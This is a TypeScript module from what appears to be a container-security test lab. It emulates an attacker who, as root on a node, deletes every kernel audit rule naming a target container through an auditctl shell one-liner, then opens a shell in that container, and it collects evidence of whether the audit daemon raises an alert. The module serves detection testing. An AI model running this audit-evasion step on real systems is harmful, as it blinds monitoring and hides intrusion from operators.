/**
 * Attack (T1562.012 Impair Defenses: Disable or Modify Linux Audit System,
 * then T1609 and T1059.004 a shell in the container): root on the node
 * lists the kernel's audit rules, deletes every rule whose key names the
 * target container (`auditctl -D -k KEY`), and then opens a shell in the
 * container. Nothing of the audit layer is touched: its daemon, helpers
 * and files stay as they were; only the kernel no longer records the
 * container's execs and reads.
 *
 * The deletion runs in the node's initial PID namespace, where root on a
 * real node is and where the kernel takes audit netlink requests
 * (lab/node/init-pid-namespace.ts). On a node with the audit component,
 * finding no rule to delete means the step could not be carried out: an
 * error, never an outcome.
 *
 * What must catch it: the audit layer. Its daemon reads the kernel's
 * CONFIG_CHANGE records; a rule removed by a process, not by the kernel,
 * while the container runs raises an alert naming the container and the
 * process, and the rules are set again (lab/audit/node/daemon.ts).
 */
import { awaitAuditAlerts, awaitAuditWatching, hasAudit } from '../../audit/index.ts';
import { LabError } from '../../errors.ts';
import { runInInitPidNamespace } from '../../node/init-pid-namespace.ts';
import type { Technique } from '../technique.ts';
import { requirePayload, type AttackErrorCode } from './common.ts';
import { targetOf } from './overmount.ts';

/** The shell root runs: every key of a rule naming the container, each deleted, one per output line. */
export function deleteRulesScript(containerId: string): string[] {
  if (!/^[0-9a-f]{64}$/.test(containerId)) throw new Error(`container id should be 64 hex digits, got ${JSON.stringify(containerId)}`);
  // `auditctl -l` shows a syscall rule's key as `-F key=K`, a watch rule's as `-k K`.
  const script = 'set -e; keys=$(auditctl -l | grep -oE "(key=|-k )[^ ]*$1" | sed -E "s/^(key=|-k )//" | sort -u); for k in $keys; do auditctl -D -k "$k" >/dev/null; echo "$k"; done';
  return ['sh', '-c', script, 'sh', containerId.slice(0, 12)];
}

export const auditRulesDelete: Technique = {
  name: 'audit-rules-delete',
  async run(ctx) {
    const { node, attack } = ctx;
    const payload = requirePayload(attack);
    const target = await targetOf(ctx);
    // The attacker arrives once the container runs: the audit layer has set its rules by then.
    await awaitAuditWatching(node, target.containerId);
    const since = new Date();
    const deletion = await runInInitPidNamespace(node, deleteRulesScript(target.containerId), ['AUDIT_CONTROL']);
    if (deletion.exitCode !== 0) {
      throw new LabError<AttackErrorCode>('ATTACK_FAILED', `deleting the kernel audit rules of ${target.pod.namespace}/${target.pod.name} failed (exit ${deletion.exitCode}): ${deletion.stderr.trim()}`);
    }
    const deletedKeys = deletion.stdout.toString().split('\n').filter(Boolean);
    if (hasAudit(node) && deletedKeys.length === 0) {
      throw new LabError<AttackErrorCode>('ATTACK_FAILED', `no kernel audit rule names the container ${target.containerId.slice(0, 12)} of ${target.pod.namespace}/${target.pod.name}, although the node runs the audit component: the deletion could not be carried out`);
    }
    const shell = await node.cri.execSync(target.containerId, ['sh', '-c', payload]);
    const stdout = shell.stdout.toString();
    const effect = shell.exitCode === 0 && stdout.trim() !== '';
    return {
      effect,
      reason:
        `root deleted ${deletedKeys.length} kernel audit rule key(s) naming the container (${deletedKeys.join(', ') || 'none was set'}); ` +
        (effect ? `then a shell ran "${payload}" in ${target.pod.namespace}/${target.pod.name}: exit 0` : `then the shell in ${target.pod.namespace}/${target.pod.name} exited ${shell.exitCode}: ${shell.stderr.toString().trim()}`),
      evidence: { deletedKeys, shellExitCode: shell.exitCode, stdout, stderr: shell.stderr.toString(), auditAlerts: await awaitAuditAlerts(node, since) },
    };
  },
};
